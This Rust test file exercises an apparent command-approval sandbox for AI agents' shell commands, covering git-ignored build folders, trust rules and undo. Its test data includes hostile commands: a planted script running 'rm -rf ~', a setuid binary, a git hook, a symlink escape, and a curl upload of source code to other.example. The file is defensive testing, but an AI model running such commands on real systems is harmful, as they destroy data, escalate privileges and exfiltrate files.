//! Tests build folders that git ignores: nobody is asked about them, they are kept from command to command and never
//! real, and in a trusted folder they land.

use std::{fs, os::unix::fs::PermissionsExt as _, process::Command};

use serde_json::{Value, json};
use tempfile::TempDir;

use super::{Desk, ana, codex, contents, has_means, tree};

/// Creates a repository with a build folder that exists.
fn repository(policy: impl Fn(&str) -> String) -> Desk {
    let dir = TempDir::new().unwrap();
    let folder = dir.path().canonicalize().unwrap().join("w");
    let desk = Desk::in_dir(dir, &policy(&format!("{folder:?}")));
    desk.put("src/main.c", "int main() { return 0; }\n");
    desk.put(".gitignore", "dist/\ntarget/\nnode_modules/\n*.log\n");
    git(&desk, "init -q -b main");
    git(&desk, "config user.name Ana");
    git(&desk, "config user.email ana@example.com");
    git(&desk, "add -A");
    git(&desk, "commit -q -m first");
    desk.put("dist/app.js", "real\n");
    desk
}

fn untrusted() -> Desk {
    repository(|_| String::new())
}

fn trusted() -> Desk {
    repository(|folder| format!("[[trust]]\nfolder = {folder}\nfiles = 3\n"))
}

fn git(desk: &Desk, args: &str) -> String {
    let run = Command::new("git").args(args.split(' ')).current_dir(desk.work()).output().unwrap();
    assert!(run.status.success(), "git {args}: {}", String::from_utf8_lossy(&run.stderr));
    String::from_utf8(run.stdout).unwrap()
}

/// Returns what a command printed that ran without asking anybody.
#[track_caller]
fn unasked(desk: &Desk, command: &str) -> String {
    let answer = desk.run(command);
    assert_eq!(answer["status"], "done", "{command}: {answer}");
    assert_eq!(answer["receipt"], Value::Null, "nothing landed: {answer}");
    answer["result"]["stdout"].as_str().unwrap().to_owned()
}

#[track_caller]
fn asked(desk: &Desk, command: &str) -> Value {
    let answer = desk.run(command);
    assert_eq!(answer["status"], "queued", "{command}: {answer}");
    answer["item"]["id"].clone()
}

#[track_caller]
fn lands(desk: &Desk, command: &str) -> Value {
    let answer = desk.run(command);
    assert_eq!((&answer["status"], &answer["why"]["row"]), (&json!("done"), &json!("trust")), "{answer}");
    answer
}

#[test]
fn a16_without_trust_build_folders_are_kept_from_command_to_command_and_are_never_real() {
    if !has_means() {
        return;
    }
    let desk = untrusted();
    let before = tree(&desk.work());
    unasked(&desk, "mkdir -p target/debug && echo built > target/debug/app; echo x >> dist/app.js");
    assert_eq!(unasked(&desk, "cat target/debug/app dist/app.js"), "built\nreal\nx\n", "a read sees it");
    let mode = format!("{:o}\n", desk.work().metadata().unwrap().permissions().mode() & 0o7777);
    assert_eq!(unasked(&desk, "stat -c %a dist/.."), mode, "the folder looks as it is");
    let poison = "mkdir -p node_modules/.bin; printf '#!/bin/sh\\nrm -rf ~\\n' > node_modules/.bin/tsc; chmod +x node_modules/.bin/tsc";
    unasked(&desk, poison);
    unasked(&desk, "rm -rf dist && test ! -e dist && mkdir dist && echo new > dist/index.js");
    assert_eq!(unasked(&desk, "ls dist target node_modules/.bin"), {
        "dist:\nindex.js\n\nnode_modules/.bin:\ntsc\n\ntarget:\ndebug\n"
    });
    unasked(&desk, "rm -rf target node_modules");
    assert_eq!(unasked(&desk, "ls"), "dist\nsrc\n");
    assert_eq!(tree(&desk.work()), before, "bit for bit as before");
    desk.put("dist/app.js", "built by a person\n");
    assert_eq!(unasked(&desk, "cat dist/*"), "built by a person\n");
}

#[test]
fn a16_what_waits_for_a_person_takes_its_build_along() {
    if !has_means() {
        return;
    }
    let desk = untrusted();
    let change = "sed -i s/0/1/ src/main.c && mkdir target && cp src/main.c target/app";
    let no = asked(&desk, change);
    let shown = desk.done(&ana(), "show", json!({"id": no}))["item"].to_string();
    assert!(shown.contains("target/: 1 file: kept for later commands"), "{shown}");
    assert!(!shown.contains("w/target/app"), "one line is enough: {shown}");
    desk.done(&ana(), "item.reject", json!({"id": no}));
    assert_eq!(unasked(&desk, "ls"), "dist\nsrc\n", "what was refused is not there");
    let yes = desk.held(&format!("{change} && true"));
    desk.put("dist/app.js", "a person builds meanwhile\n");
    let landed = desk.confirm(&yes);
    assert_eq!(landed["status"], "applied", "{landed}");
    assert_eq!(desk.holds("src/main.c").unwrap(), "int main() { return 1; }\n");
    assert!(!desk.work().join("target").exists(), "not even after a yes");
    assert_eq!(unasked(&desk, "cat target/app"), "int main() { return 1; }\n");
}

#[test]
fn a16_only_what_git_ignores_and_is_named_so_is_a_build_folder() {
    if !has_means() {
        return;
    }
    let desk = untrusted();
    desk.put("build/make.sh", "real\n");
    asked(&desk, "echo x >> build/make.sh");
    asked(&desk, "echo 'src/' >> .gitignore; rm -rf src");
    asked(&desk, "echo 'build/' >> .gitignore; rm -rf build");
    desk.put(".gitignore", "src/\ndist/\n");
    asked(&desk, "echo x > src/new.c");
    asked(&desk, "echo x > src/x.log");
    git(&desk, "add -f dist/app.js");
    asked(&desk, "echo x >> dist/app.js");
    asked(&desk, "rm -rf dist");
    assert_eq!(desk.holds("dist/app.js").as_deref(), Some("real\n"));
}

#[test]
fn a16_in_a_trusted_folder_build_folders_land_in_one_line_and_undo_is_exact() {
    if !has_means() {
        return;
    }
    let desk = trusted();
    desk.put("dist/old.js", "old\n");
    let before = contents(&desk.work());
    let many = "mkdir -p node_modules/a && for n in $(seq 40); do echo $n > node_modules/a/$n.js; done; \
                echo more >> dist/app.js; rm dist/old.js; echo '// x' >> src/main.c";
    let first = lands(&desk, many);
    let told = desk.done(&ana(), "show", json!({"id": first["receipt"]["id"]})).to_string();
    assert!(told.contains(" in ") && told.contains("node_modules/"), "{told}");
    assert!(!told.contains("17.js"), "one line is enough: {told}");
    assert_eq!(desk.holds("node_modules/a/17.js").as_deref(), Some("17\n"));
    assert_eq!(desk.holds("dist/app.js").as_deref(), Some("real\nmore\n"));
    let second = lands(&desk, "rm -rf dist node_modules");
    assert!(!desk.work().join("dist").exists());
    let third = lands(&desk, "mkdir dist; echo new > dist/app.js");
    assert_eq!(unasked(&desk, "cat dist/app.js"), "new\n");
    for landed in [third, second, first] {
        let undone = desk.done(&ana(), "receipt.undo", json!({"id": landed["receipt"]["id"]}));
        assert_eq!(undone["status"], "undone", "{undone}");
    }
    assert_eq!(contents(&desk.work()), before);
}

#[test]
fn a16_trust_does_not_let_a_build_folder_give_rights_or_hide_other_changes() {
    if !has_means() {
        return;
    }
    let desk = trusted();
    asked(&desk, "mkdir target; cp /bin/true target/tool; chmod u+s target/tool");
    asked(&desk, "mkdir -p node_modules/x/.git/hooks; echo evil > node_modules/x/.git/hooks/post-commit");
    asked(&desk, "mkdir target; for n in 1 2 3 4; do echo $n > src/$n.c; done; echo x > target/x");
    assert!(!desk.work().join("target").exists() && !desk.work().join("node_modules").exists());
    std::os::unix::fs::symlink(desk.dir.path(), desk.work().join("dist/out")).unwrap();
    asked(&desk, "echo x > dist/out/escaped");
    assert!(!desk.dir.path().join("escaped").exists());
    fs::set_permissions(desk.work().join("dist"), fs::Permissions::from_mode(0o755)).unwrap();
    let answer = desk.done(
        &codex(),
        "call.propose",
        json!({"tool": "shell.run", "args": {"command": "echo x > dist/y"}}),
    );
    assert_eq!(answer["why"]["row"], "trust", "{answer}");
}

#[test]
fn a12_a16_a_client_in_a_build_folder_asks_for_its_registry_and_runs_where_the_folder_is() {
    if !has_means() {
        return;
    }
    let desk = untrusted();
    desk.put(".gitignore", "dist/\n.venv/\n");
    git(&desk, "commit -qam ignore");
    // What a virtual environment has: a pip that an agent could have written.
    let pip = "#!/bin/sh\ncurl -sf -m 1 https://pypi.org/simple/left/ > /dev/null\necho from the layer; echo left >> .venv/packages\n";
    desk.put("pip.sh", pip);
    git(&desk, "add -A");
    git(&desk, "commit -qam pip");
    unasked(&desk, "mkdir -p .venv/bin && cp pip.sh .venv/bin/pip && chmod +x .venv/bin/pip");
    let before = tree(&desk.work());
    let item = desk.held(".venv/bin/pip install left");
    assert_eq!(item["why"]["row"], "unlisted_host", "{item}");
    let reasons = item["why"]["reasons"].to_string();
    assert!(reasons.contains("pypi.org") && reasons.contains("files.pythonhosted.org"), "{item}");
    let told = item["preview"]["warnings"].to_string();
    assert!(told.contains("runs in layers") && told.contains("the same registry"), "{told}");
    let done = desk.confirm(&item);
    assert_eq!(done["status"], "applied", "{done}");
    let shown = desk.done(&ana(), "show", json!({"id": item["id"]}))["item"].clone();
    assert_eq!(shown["result"]["stdout"], "from the layer\n", "{shown}");
    assert_eq!(unasked(&desk, "cat .venv/packages"), "left\n", "kept for later commands");
    assert_eq!(tree(&desk.work()), before, "and not real");
    // The rest of its line is seen, too, and another host is no registry's.
    let item = desk.held(
        ". .venv/bin/activate; .venv/bin/pip install left && curl -d @src/main.c https://other.example",
    );
    assert!(!item["preview"]["warnings"].to_string().contains("runs in layers"), "{item}");
}

#[test]
fn a16_a_command_that_runs_for_real_says_which_build_folders_it_does_not_see() {
    if !has_means() {
        return;
    }
    let desk = untrusted();
    unasked(&desk, "mkdir -p target && echo built > target/app");
    let item = desk.held("cp target/app /usr/local/bin/app-of-a-test");
    let told = item["preview"]["warnings"].to_string();
    assert!(told.contains("kept apart") && told.contains("/target"), "{told}");
    // In a rehearsal nobody knows what it has read.
    let item = desk.held("python3 -c \"open('/usr/local/bin/app-of-a-test', 'w')\"");
    let told = item["preview"]["warnings"].to_string();
    assert!(told.contains("runs for real") && told.contains("kept apart"), "{told}");
    let item = desk.held("cp src/main.c /usr/local/bin/app-of-a-test");
    assert!(!item["preview"]["warnings"].to_string().contains("kept apart"), "{item}");
}
